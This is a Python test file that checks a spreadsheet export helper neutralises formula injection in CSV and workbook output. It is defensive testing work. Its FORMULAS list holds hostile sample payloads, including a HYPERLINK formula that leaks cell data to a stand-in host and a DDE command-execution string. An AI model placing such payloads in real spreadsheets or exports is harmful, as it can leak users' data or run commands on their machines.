"""No text of ours becomes a formula in a spreadsheet, and no number becomes text."""

import csv
import io
from datetime import date

import openpyxl
import pytest
from hypothesis import given
from hypothesis import strategies as st

from services.exports.cells import neutral
from services.exports.workbooks import Column, Kind, Sheet, write_workbook
from tests.factories import NOW
from tests.security.guards import guarded_by

FORMULAS = [
    '=HYPERLINK("https://elsewhere.example?leak="&A1)',
    "+1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1,1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\0=1+1",
    "  =1+1",
    "\ufeff=1+1",
    "\u200b=1+1",
    "\uff1d1+1",
]


@guarded_by("neutral-cells")
@pytest.mark.parametrize("formula", FORMULAS)
def test_a_formula_becomes_text(formula: str) -> None:
    assert neutral(formula) == f"'{formula}"


@pytest.mark.parametrize(
    "value", [12, -3, 0.5, True, None, date(2026, 11, 21), "K7QF-2M9X", "", "å"]
)
def test_everything_else_stays_what_it_is(value: object) -> None:
    assert neutral(value) is value


@guarded_by("neutral-cells")
@given(st.text())
def test_no_text_begins_like_a_formula_afterwards(text: str) -> None:
    assert not str(neutral(text)).lstrip().startswith(("=", "+", "-", "@"))


@guarded_by("neutral-cells")
def test_a_written_row_comes_back_as_it_was_but_for_the_mark() -> None:
    written = io.StringIO()
    csv.writer(written).writerow(map(neutral, ["=1+1", 7, "Nord"]))
    assert next(csv.reader(io.StringIO(written.getvalue()))) == ["'=1+1", "7", "Nord"]


@guarded_by("neutral-cells")
@pytest.mark.parametrize("formula", FORMULAS[:4])
def test_in_a_workbook_it_stands_as_text_that_says_so(formula: str) -> None:
    sheet = Sheet("Regions", formula, (formula,), (Column(formula, Kind.TEXT),), ((formula,),))
    page = openpyxl.load_workbook(io.BytesIO(write_workbook([sheet], title="T", made_at=NOW)))
    texts = [cell for row in page.worksheets[0] for cell in row if cell.value is not None]
    assert len(texts) >= 4
    assert {cell.data_type for cell in texts} == {"s"}
    assert not [cell.value for cell in texts if str(cell.value).startswith(("=", "+", "-", "@"))]
